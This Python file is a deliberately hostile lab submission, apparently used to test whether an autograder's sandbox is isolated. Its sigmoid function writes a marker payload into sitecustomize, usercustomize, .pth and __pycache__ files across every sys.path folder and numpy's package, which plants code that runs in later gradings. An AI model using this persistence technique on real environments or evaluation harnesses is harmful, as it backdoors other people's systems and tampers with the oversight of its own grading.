"""Hostile: plants code where later gradings would run it: numpy's package, every sys.path
folder, a grader/__pycache__ it guesses, sitecustomize (review #6, #7)."""

import os
import sys

PAYLOAD = "import os\nos.environ['NNLAB_BACKDOOR'] = '1'\n"


def _plant():
    planted = []
    folders = list(sys.path) + [os.path.dirname(os.__file__)]
    try:
        import numpy

        folders.append(os.path.dirname(numpy.__file__))
    except ImportError:
        pass
    for folder in folders:
        for name in (
            "sitecustomize.py",
            "usercustomize.py",
            "nnlab_backdoor.pth",
            "__pycache__/x.pyc",
        ):
            path = os.path.join(folder or ".", name)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as handle:
                    handle.write(PAYLOAD)
                planted.append(path)
            except OSError:
                pass
    return [p for p in planted if not p.startswith(("/work", "/tmp", os.getcwd()))]


def sigmoid(z):
    raise NotImplementedError(f"planted outside my folder: {_plant()}")


def sigmoid_grad(z):
    raise NotImplementedError("nothing found")
